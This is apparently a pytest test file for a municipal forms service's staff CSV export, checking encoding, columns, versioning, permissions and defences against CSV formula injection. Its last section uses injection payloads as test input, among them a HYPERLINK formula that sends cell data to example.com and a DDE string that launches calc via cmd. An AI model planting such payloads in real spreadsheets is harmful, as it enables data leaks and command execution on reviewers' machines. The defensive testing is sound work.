"""CSV export: read back with the csv module, it gives the answers; one datum per line and cell."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from sqlalchemy import select

from formsvc.forms.catalog import published
from formsvc.review import export
from formsvc.review.models import AccessLog
from formsvc.submissions.models import Submission
from tests.applicant import Applicant
from tests.review.conftest import REVIEW_SAMPLE, publish
from tests.staff.support import staff_client


def apply(app, form_id: str, items=None, **answers) -> str:
    return Applicant(app.test_client(), app, form_id, answers=answers, items=items or {}).submit()


def read_csv(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


# The machine-readable choices of the export options page (what a link without options gives;
# the page preselects choices for Excel: tests/review/test_export_options.py).
MACHINE = "encoding=utf-8&booleans=digits&dates=iso&reception=plain&breaks=space"


def test_csv_round_trip_gives_back_the_answers(app, review_form, db_session):
    first = apply(app, review_form, name={"family": "佐藤", "given": "花子"}, copies=2,
                  note="一行目\n二行目\r\n三行目", purposes=["bank", "other"], items={"items": [{"item_kind": "b"}]})
    second = apply(app, review_form, via="agent", agent_name="代理 ①郎", proxy_letter=True, copies=1,
                   note="㈱テスト\tタブ")
    exporter = staff_client(app, "shinsa", "reviewer")
    response = exporter.get(f"/staff/queue/export.csv?form={review_form}&status=all&{MACHINE}")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and f"{review_form}_v1_" in disposition
    assert response.headers["Cache-Control"] == "no-store"
    content = response.data
    assert not content.startswith(b"\xef\xbb\xbf")
    # Records end with CRLF, and no cell holds a line break: one line per submission.
    assert content.count(b"\r\n") == 3 and content.count(b"\n") == 3 and b"\r" not in content.replace(b"\r\n", b"")
    rows = read_csv(content)
    assert [row["受付番号"] for row in rows] == [first, second]

    definition = published(db_session, review_form).definition
    submissions = {s.reception_number: s for s in db_session.scalars(select(Submission))}
    headers = list(rows[0])
    assert headers[:7] == ["受付番号", "申請日時", "状況", "経路", "手数料", "入力した職員", "本人確認"]
    # The payment columns come last (added after the others, which keep their place).
    payment_headers = ["支払い状況", "支払方法", "支払日時", "決済番号", "返金状況"]
    assert headers[7:-5] == [column.header for column in export.columns(definition)]
    assert headers[-5:] == payment_headers
    assert len(headers) == len(set(headers))  # every header names one column
    for row in rows:
        submission = submissions[row["受付番号"]]
        fields = submission.answers["fields"]
        assert row["状況"] == "受付" and row["経路"] == "オンライン" and row["手数料"] == str(submission.fee)
        assert row["入力した職員"] == ""  # filled for counter applications only
        assert row["本人確認"] == "確認なし"  # not signed in with the card
        assert row["申請日時"].endswith("+09:00")
        assert row["氏名（氏）"] == fields["name"]["family"] and row["氏名（名）"] == fields["name"]["given"]
        assert row["フリガナ（セイ）"] == fields["kana"]["family"]
        assert row["通数"] == str(fields["copies"])
        assert row["受取希望日"] == fields["pickup"] == date.fromisoformat(row["受取希望日"]).isoformat()
        assert row["住所（都道府県）"] == fields["home"]["prefecture"]
        assert row["市内にお住まいですか"] == "1"
    one, two = rows
    assert one["連絡事項"] == "一行目 二行目 三行目"
    assert (one["使いみち（銀行）"], one["使いみち（勤務先）"], one["使いみち（その他）"]) == ("1", "0", "1")
    assert one["品目1_品目"] == "証明書B" and one["品目2_品目"] == ""
    assert one["代理人の氏名"] == ""  # not asked: empty, not a default
    assert two["代理人の氏名"] == "代理 1郎"  # platform-dependent characters spelled plainly
    assert two["連絡事項"] == "(株)テスト タブ"
    assert two["委任状"] == "document.pdf"
    assert (two["使いみち（銀行）"], two["使いみち（勤務先）"]) == ("0", "0")  # asked, none ticked
    logged = db_session.scalars(select(AccessLog).where(AccessLog.action == "csv")).one()
    assert sorted(logged.submission_ids) == sorted(s.id for s in submissions.values())
    assert logged.detail == f"{review_form} v1" and logged.staff_username == "shinsa"


def test_the_bom_variant_for_excel(app, review_form):
    apply(app, review_form)
    exporter = staff_client(app, "shinsa", "admin")
    plain = exporter.get(f"/staff/queue/export.csv?form={review_form}").data
    with_bom = exporter.get(f"/staff/queue/export.csv?form={review_form}&bom=1").data
    assert with_bom.startswith(b"\xef\xbb\xbf") and with_bom[3:] == plain
    assert next(csv.reader(io.StringIO(with_bom.decode("utf-8-sig"))))[0] == "受付番号"


def test_one_procedure_and_one_version_per_file(app, review_form, plain_form):
    old = apply(app, review_form)
    publish(app, REVIEW_SAMPLE.replace("{ja: 通数,", "{ja: 必要な通数,"), "review-v2.yaml")
    new = apply(app, review_form)
    apply(app, plain_form)
    exporter = staff_client(app, "shinsa", "reviewer")
    queue = exporter.get(f"/staff/queue?form={review_form}")
    assert "第2版（1件）" in queue.text and "第1版（1件）" in queue.text
    assert f"/staff/queue/export?version=1&amp;form={review_form}" in queue.text  # the options page
    newest = read_csv(exporter.get(f"/staff/queue/export.csv?form={review_form}").data)
    assert [row["受付番号"] for row in newest] == [new] and "必要な通数" in newest[0]
    first = read_csv(exporter.get(f"/staff/queue/export.csv?form={review_form}&version=1").data)
    assert [row["受付番号"] for row in first] == [old] and "通数" in first[0]
    refused = exporter.get("/staff/queue/export.csv")
    assert refused.status_code == 302 and "notice=csv_needs_form" in refused.location
    assert "CSVを出力するには、まず手続きを1つ選んでください" in exporter.get(refused.location).text
    assert exporter.get(f"/staff/queue/export.csv?form={review_form}&version=9").status_code == 404


def test_counter_staff_cannot_export(app, review_form):
    counter = staff_client(app, "madoguchi", "counter")
    assert counter.get(f"/staff/queue/export.csv?form={review_form}").status_code == 403
    assert counter.get(f"/staff/queue/export?form={review_form}").status_code == 403
    assert "CSVで出力する" not in counter.get("/staff/queue").text


def test_csv_cells_are_single_lines_without_platform_characters():
    assert export.clean("a\nb\r\nc\u2028d\te") == "a b c d e"
    assert export.clean("①Ⅲ㈱㌔") == "1III(株)キロ"
    assert export.clean("髙橋　ｶﾀｶﾅ") == "髙橋　ｶﾀｶﾅ"  # everything else is kept as typed
    assert export.clean(None) == ""



# --- formula injection (OWASP "CSV Injection") -----------------------------------------------

HYPERLINK = '=HYPERLINK("https://example.com/?"&A2,"詳細")'
# A procedure whose labels and answers a spreadsheet would run as formulas, and a number question
# whose answers may be negative (amounts): such plain numbers must stay readable as numbers.
FORMULA_SAMPLE = (
    REVIEW_SAMPLE.replace("{ja: 連絡事項,", "{ja: '@連絡事項',")
    .replace("      - {type: number, id: copies, label: {ja: 通数, en: Copies}, min: 1, max: 5,"
             " unit: {ja: 通, en: \" copies\"}}\n",
             "      - {type: number, id: copies, label: {ja: 通数, en: Copies}, min: 1, max: 5,"
             " unit: {ja: 通, en: \" copies\"}}\n"
             "      - {type: number, id: adjustment, label: {ja: '-調整額', en: '-Adjustment'},"
             " min: -100000, max: 100000, required: false}\n")
)


def test_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(app):
    publish(app, FORMULA_SAMPLE, "review.yaml")
    first = apply(app, "review-permit", via="agent", agent_name="+SUM(1,2)", proxy_letter=True,
                  note=HYPERLINK, adjustment=-1500)
    second = apply(app, "review-permit", via="agent", agent_name="@cmd", proxy_letter=True,
                   note="  =1+1", adjustment=-3)
    third = apply(app, "review-permit", via="agent", agent_name="-2+3+cmd|'/C calc'", proxy_letter=True,
                  note="\t=1+1", adjustment=2)
    exporter = staff_client(app, "shinsa", "reviewer")
    content = exporter.get("/staff/queue/export.csv?form=review-permit&status=all&bom=1").data
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    headers, by_number = rows[0], {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}

    # Headers are cells too: a label is written by whoever edits the procedure.
    assert "'@連絡事項" in headers and "'-調整額" in headers
    assert "@連絡事項" not in headers and "-調整額" not in headers
    assert by_number[first]["'@連絡事項"] == "'" + HYPERLINK
    assert by_number[first]["代理人の氏名"] == "'+SUM(1,2)"
    assert by_number[second]["代理人の氏名"] == "'@cmd"
    # Leading spaces and tabs are trimmed from cells, so what follows them is checked as the first character.
    assert by_number[second]["'@連絡事項"] == "'=1+1"
    assert by_number[third]["'@連絡事項"] == "'=1+1"
    assert by_number[third]["代理人の氏名"] == "'-2+3+cmd|'/C calc'"
    # Plain numbers, negative ones included, are left as they are.
    assert [by_number[number]["'-調整額"] for number in (first, second, third)] == ["-1500", "-3", "2"]
    assert by_number[first]["手数料"].isdigit()


@pytest.mark.parametrize(("text", "written"), [
    ("=1+1", "'=1+1"), ("+81", "'+81"), ("-", "'-"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    # Full-width forms too: Japanese Excel turns ＝１＋１ typed into a cell into a formula.
    ("＝1+1", "'＝1+1"), ("＋1", "'＋1"), ("－1", "'－1"), ("＠x", "'＠x"),
    ("-1500", "-1500"), ("-3.5", "-3.5"), ("1500", "1500"), ("", ""), ("佐藤 =1", "佐藤 =1"),
    ("-1e5", "'-1e5"), ("-1,500", "'-1,500"), ("- 1", "'- 1"),
])
def test_a_cell_is_neutralised_only_when_it_could_start_a_formula(text, written):
    assert export.formula_safe(text) == written
